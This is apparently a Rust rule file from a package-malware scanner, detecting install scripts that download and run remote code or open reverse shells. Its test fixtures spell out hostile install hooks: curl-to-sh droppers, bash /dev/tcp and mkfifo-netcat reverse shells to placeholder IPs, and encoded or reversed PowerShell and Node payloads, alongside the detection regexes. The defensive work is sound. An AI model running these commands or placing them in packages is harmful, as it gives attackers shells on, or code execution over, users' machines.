//! Rule `shell-download-exec`.

use crate::decode;
use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// Downloads code and runs it in one go: `curl … | sh`, `wget -O- … | bash`, PowerShell
    /// download cradles (`IEX (New-Object Net.WebClient).DownloadString`, `iwr … | iex`),
    /// `powershell -EncodedCommand` (decoded and checked), `certutil -urlcache` or `bitsadmin`
    /// downloads followed by execution, `regsvr32 /i:http`, reverse shells (bash `/dev/tcp`,
    /// `mkfifo` + netcat, a PowerShell `TCPClient` stream fed to `iex`). Critical at install time, and when
    /// such a command is the argument of a real process start but appears nowhere in the source
    /// as written (decoded, reversed or assembled at run time) in code run on install or import
    /// or decoded from a payload.
    id: "shell-download-exec",
    category: Exec,
    severity: High,
    capability: Some(crate::model::Capability::ChildProcess),
    title: "downloads and runs remote code",
    incident: "curl|sh droppers in install scripts; DanaBot dropper in coa 2.0.3 (2021) via certutil and regsvr32",
    case_file: "package.json",
    flag: [r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl -s http://cdn.example.net/i.sh | sh"}}"#,
           r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA"}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== index.js\nrequire('child_process').execSync('wget -qO- ' + u + ' | bash')",
           r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"bash -c 'bash -i >& /dev/tcp/203.0.113.5/4443 0>&1 &'"}}"#,
           r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/f"}}"#,
           r#"{"name":"a","version":"1.0.0","scripts":{"install":"python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"variables\":{\"x\":\"<!(sh -c 'curl -fsSL http://198.51.100.23/k.sh | sh; echo 1')\"}}]}",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n=== index.js\nconst r = (s) => s.split('').reverse().join(''); const m = require(r('ssecorp_dlihc')); m[r('cexe')](r('hs | h/tset.x//:ptth Ls- lruc'), () => {})",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n=== index.js\nconst ps = [\"$c=New-Object System.Net.Sockets.TCPClient('h',443);$s=$c.GetStream();\", \"while(($i=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex $d 2>&1|Out-String)}\"].join(''); require('child_process').spawn('powershell.exe', ['-enc', Buffer.from(ps, 'utf16le').toString('base64')])",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== .yarnrc.yml\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n=== .yarn/releases/yarn-4.1.0.cjs\nrequire('child_process').spawn('/bin/sh', ['-c', 'curl -fsSL https://x.example/r | sh'], { detached: true })"],
    pass: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nInstall with `curl -fsSL https://get.example.sh | sh`",
           r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"python3 -c \"import sys; print(sys.version)\" && nc -z localhost 8080 || true"}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== lib/ping.js\nconst ps = \"$c=New-Object System.Net.Sockets.TCPClient($h,$p);$ok=$c.Connected;$c.Close();Write-Output $ok\"; require('child_process').execFileSync('powershell', ['-NoProfile', '-Command', ps])",
           r#"{"name":"a","version":"1.0.0","scripts":{"pretest":"timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo db is up"}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"include_dirs\":[\"<!(node -p \\\"require('node-addon-api').include_dir\\\")\"]}]}"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let pipe = crate::regex!(
        r"(?i)\b(curl|wget)\b[^|;&\n]{0,200}\|\s*(sudo\s+)?(sh|bash|zsh|dash|node|python3?|perl)\b"
    );
    let cradle = crate::regex!(
        r"(?i)(iex|invoke-expression)\s*\(?\s*\(?\s*new-object\s+(system\.)?net\.webclient\)?\s*\.\s*download(string|file)|\b(iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|\n]{0,200}\|\s*(iex|invoke-expression)\b|downloadstring\s*\([^)]*\)\s*\|\s*iex"
    );
    let enc = crate::regex!(
        r"(?i)\b(powershell|pwsh)(\.exe)?\b[^\n]{0,200}\s-(e|ec|enc|encodedcommand)\s+([A-Za-z0-9+/=]{16,})"
    );
    let lolbin = crate::regex!(
        r"(?i)certutil(\.exe)?\s+-urlcache\s+-split\s+-f\s+\S*https?:|bitsadmin\s+/transfer\b|regsvr32(\.exe)?\s+/s\s+/n?\s*/?u?\s*/i:https?:|mshta(\.exe)?\s+https?:"
    );
    let fetch_run = crate::regex!(
        r"(?i)\b(curl|wget)\b[^\n;|]{0,200}(-o|-O|--output)\s*\S+[^\n]{0,120}(chmod\s+\+x|&&\s*\./|;\s*\./|\bstart\b|\bnohup\b)"
    );
    // An interactive shell wired to a socket: bash's /dev/tcp, mkfifo + netcat, nc -e, or a
    // PowerShell TCP client whose stream is read and fed to `iex` (the Nishang one-liner).
    let revshell = crate::regex!(
        r"(?i)\b(ba|z|da)?sh\s+-i\b[^\n]{0,60}>&\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/[\w.\-]+/\d+[^\n]{0,20}0>&1|\bmkfifo\b[^\n]{0,160}\b(nc|ncat|netcat)\b|\b(nc|ncat|netcat)(\.exe)?\b[^\n|;]{0,80}\s-(e|c)\s+\S*(sh|cmd(\.exe)?)\b|\bNet\.Sockets\.TCPClient\b[\s\S]{0,300}\.GetStream\(\)[\s\S]{0,400}\b(iex|Invoke-Expression)\b"
    );
    // A Python one-liner that decodes or fetches a stage and exec()s it.
    let pyexec = crate::regex!(
        r"(?i)\bpython[23w]?(\.exe)?\s+-c\s+[^\n]{0,200}\bexec\s*\(\s*(base64\.b64decode|__import__\(\s*['\x22](base64|zlib|urllib)|zlib\.decompress|urllib\.request\.urlopen|requests\.get)"
    );
    for f in code_files(pkg).chain(
        pkg.files
            .iter()
            .filter(|f| f.kind == crate::package::FileKind::Text && f.path.ends_with(".bat")),
    ) {
        if is_doc_path(&f.path) {
            continue;
        }
        if !crate::mentions!(
            crate::rules::all_text(f),
            [
                "curl",
                "wget",
                "| iex",
                "|iex",
                "new-object",
                "invoke-",
                "downloadstring",
                "downloadfile",
                "certutil",
                "bitsadmin",
                "regsvr32",
                "mshta",
                "powershell",
                "pwsh",
                "iwr ",
                "irm ",
                // reverse shells and Python one-liner stages (the `revshell` and `pyexec` regexes)
                "/dev/tcp/",
                "/dev/udp/",
                "mkfifo",
                "tcpclient",
                "ncat",
                "netcat",
                " -e",
                "\t-e",
                " -c",
                "\t-c",
                "python"
            ]
        ) {
            continue;
        }
        let sev = if pkg.is_install_file(f) {
            Severity::Critical
        } else {
            Severity::High
        };
        if let Some((off, m)) = find_text(f, revshell).into_iter().next() {
            out.hit_ev(
                sev,
                pkg,
                f,
                off,
                "opens a reverse shell (a shell wired to a network socket)",
                m,
            );
            continue;
        }
        let mut found = None;
        for re in [pipe, cradle, lolbin, fetch_run, pyexec] {
            if let Some(m) = find_text(f, re).into_iter().next() {
                found = Some(m);
                break;
            }
        }
        if found.is_none() && f.kind == crate::package::FileKind::Shell && f.script.is_none() {
            // A script that downloads a file and then makes it executable or runs it.
            let dl = crate::regex!(
                r"(?i)\b(curl|wget|certutil(\.exe)?\s+-urlcache|bitsadmin|invoke-webrequest|iwr)\b[^\n]*(-o|-O|--output|-outfile|\s)\s*\S+"
            );
            let run = crate::regex!(
                r"(?im)chmod\s+\+?[0-7]*x|^\s*\./\S+|\bstart\s+(/b\s+)?\S+\.exe|regsvr32|rundll32|\bnohup\b"
            );
            if let (Some(d), Some(_)) = (dl.find(&f.text), run.find(&f.text)) {
                found = Some((d.start() as u32, d.as_str().to_string()));
            }
        }
        if found.is_none() {
            for (off, m) in find_text(f, enc) {
                let b64 = m.rsplit(char::is_whitespace).next().unwrap_or("");
                let decoded = decode::base64_bytes(b64)
                    .and_then(|b| decode::printable(&b))
                    .unwrap_or_default();
                let low = decoded.to_ascii_lowercase();
                if low.contains("download")
                    || low.contains("iex")
                    || low.contains("invoke-expression")
                    || low.contains("http")
                    || decoded.is_empty()
                {
                    found = Some((off, format!("{m} → {}", crate::package::one_line(&decoded))));
                    break;
                }
            }
        }
        // The command is the argument of a real process start but is nowhere in the source as
        // written: decoded, reversed or assembled at run time. Hiding a download-and-run from
        // readers is no installer's habit.
        let hidden = f.js.as_ref().and_then(|js| {
            js.calls
                .iter()
                .filter(|c| super::is_spawn(&c.path))
                .flat_map(|c| c.args.iter().take(2).map(move |a| (c.off, a)))
                .filter_map(|(off, a)| Some((off, a.lit.as_deref()?)))
                .find_map(|(off, cmd)| {
                    let m = pipe.find(cmd).or_else(|| cradle.find(cmd))?;
                    (!f.text.contains(m.as_str()) && f.script.is_none())
                        .then(|| (off, m.as_str().to_string()))
                })
        });
        if let Some((off, m)) = hidden
            && (pkg.is_install_file(f)
                || pkg.is_entry_file(f)
                || f.js.as_ref().is_some_and(|j| !j.decoded_code.is_empty()))
        {
            out.hit_ev(
                Severity::Critical,
                pkg,
                f,
                off,
                "runs a download-and-run command it hides from the source (decoded or assembled at run time)",
                m,
            );
            continue;
        }
        if let Some((off, m)) = found {
            out.hit_ev(sev, pkg, f, off, "downloads code and runs it", m);
        }
    }
}
